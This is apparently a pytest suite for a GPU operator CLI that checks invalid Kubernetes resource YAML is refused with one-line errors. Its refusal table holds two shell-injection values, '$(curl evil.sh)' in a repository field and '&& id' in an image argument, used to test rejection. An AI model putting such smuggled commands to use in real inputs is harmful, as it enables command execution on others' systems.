"""What the API server or the kubelet would refuse, refused by the commands first: for each bad
input exit 1, one line on stderr naming the field and the fix, no traceback, nothing on stdout.
And what they must take: NVIDIA's quantities, every example of the project, other kinds."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from gpu_operator.cli import main
from gpu_operator.labels import CONFIG_HASH
from tests.paths import REPO
from tests.unit.test_cli_render import rendered

POLICY = """\
apiVersion: nvidia.com/v1
kind: ClusterPolicy
metadata:
  name: {name}
spec:
{spec}
"""
DRIVER = """\
apiVersion: nvidia.com/v1alpha1
kind: NVIDIADriver
metadata:
  name: {name}
spec:
  driverType: gpu
  image: driver
  repository: nvcr.io/nvidia
  version: 580.95.05
"""
PLUGIN_CONFIG = """\
apiVersion: v1
kind: ConfigMap
metadata:
  name: plugin-config
  namespace: {namespace}
data:
  shared: |
    version: v1
    sharing:
      mps:
        resources:
          - name: nvidia.com/gpu
            replicas: 2
---
"""
MIG_CONFIG = """\
apiVersion: v1
kind: ConfigMap
metadata:
  name: mig-config
  namespace: gpu-operator
data:
  config.yaml: |
    version: v1
    mig-configs:
      all-1g.5gb:
        - devices: all
          mig-enabled: true
          mig-devices: {"1g.5gb": 7}
---
"""


def policy(spec: str, name: str = "p") -> str:
    return POLICY.format(name=name, spec="\n".join(f"  {line}" for line in spec.splitlines()))


def driver_resources(resources: str) -> str:
    return policy(f"driver:\n  resources: {resources}")


TWO_POLICIES = policy("mig: {strategy: single}", "a") + "---\n" + policy("gfd: {}", "b")
PLUGIN_SPEC = "devicePlugin:\n  config: {name: plugin-config, default: %s}"

# (argv before -f FILE, the file, the field named, the fix said)
REFUSED = {
    "quantity-suffix-case": (
        [],
        driver_resources("{limits: {memory: 512ki}}"),
        "spec.driver.resources.limits.memory: must be a Kubernetes quantity",
        "case-sensitive: Ki, Mi, Gi",
    ),
    "quantity-negative": (
        [],
        driver_resources("{requests: {memory: -5Gi}}"),
        "spec.driver.resources.requests.memory: must not be negative",
        "without a leading '-'",
    ),
    "quantity-two-dots": (
        [],
        driver_resources("{limits: {cpu: 1.2.3}}"),
        "spec.driver.resources.limits.cpu: must be a Kubernetes quantity",
        "such as 500m, 2 or 4Gi",
    ),
    "request-above-limit": (
        [],
        driver_resources("{requests: {cpu: '2'}, limits: {cpu: 1500m}}"),
        "spec.driver.resources: requests.cpu (2) is above limits.cpu (1500m)",
        "lower the request or raise the limit",
    ),
    "image-repository-shell": (
        [],
        policy("driver: {repository: 'nvcr.io/nvidia $(curl evil.sh)'}"),
        "spec.driver.repository: must be a registry and path",
        "such as nvcr.io/nvidia",
    ),
    "image-name-uppercase": (
        [],
        policy("toolkit: {image: Container-Toolkit}"),
        "spec.toolkit.image: must be an image name",
        "such as driver, or a whole reference",
    ),
    "image-tag-space": (
        [],
        policy("devicePlugin: {version: 'v0.17 beta'}"),
        "spec.devicePlugin.version: must be a tag",
        "or a digest such as sha256:",
    ),
    "percent": (
        [],
        policy("daemonsets: {rollingUpdate: {maxUnavailable: 101%}}"),
        "spec.daemonsets.rollingUpdate.maxUnavailable: must be a count",
        'percent from 0% to 100% such as "25%"',
    ),
    "duration": (
        [],
        policy("driver: {upgradePolicy: {canary: {soak: 5 minutes}}}"),
        "spec.driver.upgradePolicy.canary.soak: must be a duration",
        '"30s", "5m" or "1h30m"',
    ),
    "policy-name": (
        [],
        policy("gfd: {}", "Cluster_Policy"),
        "metadata.name: must be a DNS-1123 subdomain",
        "such as 'cluster-policy'",
    ),
    "driver-name": (
        [],
        DRIVER.format(name="BAD_NAME!"),
        "metadata.name: must be a DNS-1123 subdomain",
        "such as 'bad_name'".replace("_", "-"),
    ),
    "driver-name-length": (
        [],
        DRIVER.format(name="a" * 64),
        "metadata.name: must be a DNS-1123 subdomain: at most 63",
        "nvidia.com/gpu.driver-pool label",
    ),
    "namespace": (
        ["-n", "Bad_NS!"],
        policy("gfd: {}"),
        "--namespace 'Bad_NS!': must be a DNS-1123 label",
        "such as 'bad-ns'",
    ),
    "operator-image": (
        ["--operator-image", "ghcr.io/x/op:v1 && id"],
        policy("gfd: {}"),
        "--operator-image 'ghcr.io/x/op:v1 && id': must be an image name",
        "whole reference",
    ),
    "same-daemonset-twice": (
        [],
        TWO_POLICIES,
        "document 1 (ClusterPolicy a) and document 2 (ClusterPolicy b) both make DaemonSet "
        "gpu-operator/",
        "only the oldest ClusterPolicy is ever active: keep one",
    ),
    "configmap-elsewhere": (
        [],
        PLUGIN_CONFIG.format(namespace="default") + policy(PLUGIN_SPEC % "shared"),
        "(document 1): metadata.namespace: the operator reads ConfigMap plugin-config from its "
        "namespace 'gpu-operator'",
        "move it there, or render with -n default",
    ),
    "plugin-default-not-a-key": (
        [],
        PLUGIN_CONFIG.format(namespace="gpu-operator") + policy(PLUGIN_SPEC % "sharde"),
        "(document 2): spec.devicePlugin.config.default: 'sharde' is not a key of ConfigMap "
        "plugin-config",
        "(its keys: shared): name one of them",
    ),
    "mig-default-not-a-layout": (
        [],
        MIG_CONFIG + policy("migManager:\n  config: {name: mig-config}"),
        "spec.migManager.config.default: 'all-disabled' is not in the mig-configs of ConfigMap",
        "(it has: all-1g.5gb): add it there",
    ),
    "other-kind-unnamed": (
        [],
        "apiVersion: v1\nkind: ConfigMap\ndata: {a: b}\n",
        "metadata.name: required",
        "kubectl apply names every object",
    ),
}


@pytest.mark.parametrize(("argv", "text", "field", "fix"), REFUSED.values(), ids=REFUSED)
def test_refused_with_one_line_naming_the_field_and_the_fix(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    argv: list[str],
    text: str,
    field: str,
    fix: str,
) -> None:
    path = tmp_path / "doc.yaml"
    path.write_text(text)
    code = main(["render", *argv, "-f", str(path)])
    out, err = capsys.readouterr()
    assert (code, out) == (1, ""), err
    (line,) = err.splitlines()
    assert line.startswith("error: ") and "Traceback" not in err
    assert field in line and fix in line, line


def test_a_quantity_nvidia_and_kubectl_take_renders(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "doc.yaml"
    resources = "{limits: {memory: 512Ki, cpu: '1.5'}, requests: {cpu: 1e-1}}"
    path.write_text(driver_resources(resources))
    docs = rendered(["-f", str(path)], capsys)
    (driver,) = [d for d in docs if d["metadata"]["name"] == "nvidia-driver-daemonset-ubuntu22.04"]
    container = driver["spec"]["template"]["spec"]["containers"][0]
    assert container["resources"] == {
        "limits": {"memory": "512Ki", "cpu": "1.5"},
        "requests": {"cpu": "1e-1"},
    }


@pytest.mark.parametrize(
    "example", sorted(p.name for p in (REPO / "examples").glob("*.yaml")), ids=str
)
def test_every_example_renders(example: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Each file in examples/ as it is: the operator's kinds rendered, every other document
    (ConfigMaps, claims, pods) printed unchanged, in the file's order."""
    path = REPO / "examples" / example
    docs = rendered(["-f", str(path)], capsys)
    given = [d for d in yaml.safe_load_all(path.read_text()) if d]
    others = [d for d in given if not str(d.get("apiVersion", "")).startswith("nvidia.com/")]
    assert [d for d in docs if d in others] == others


def test_a_device_plugin_config_in_the_file_is_read_as_the_operator_reads_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A config that shares GPUs with MPS renders the MPS control daemon, as --mps-config does;
    its content hash is on the plugin's pods, so editing it rolls them as in the cluster."""

    def plugin_pods(text: str) -> tuple[set[str], dict[str, str]]:
        path = tmp_path / "doc.yaml"
        path.write_text(text)
        docs = rendered(["-f", str(path)], capsys)
        names = {d["metadata"]["name"] for d in docs if d["kind"] == "DaemonSet"}
        plugin = next(d for d in docs if d["metadata"]["name"] == "nvidia-device-plugin-daemonset")
        return names, plugin["spec"]["template"]["metadata"].get("annotations") or {}

    spec = policy(PLUGIN_SPEC % "shared")
    names, annotations = plugin_pods(PLUGIN_CONFIG.format(namespace="gpu-operator") + spec)
    alone, unknown = plugin_pods(spec)
    assert "nvidia-device-plugin-mps-control-daemon" in names - alone
    assert CONFIG_HASH in annotations and annotations != unknown


def test_another_groups_clusterpolicy_is_passed_through(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    kyverno = {
        "apiVersion": "kyverno.io/v1",
        "kind": "ClusterPolicy",
        "metadata": {"name": "require-labels"},
        "spec": {"rules": []},
    }
    path = tmp_path / "doc.yaml"
    path.write_text(yaml.safe_dump(kyverno))
    assert main(["render", "-f", str(path)]) == 0  # (no Kubernetes schema to check it by)
    assert list(yaml.safe_load_all(capsys.readouterr().out)) == [kyverno]
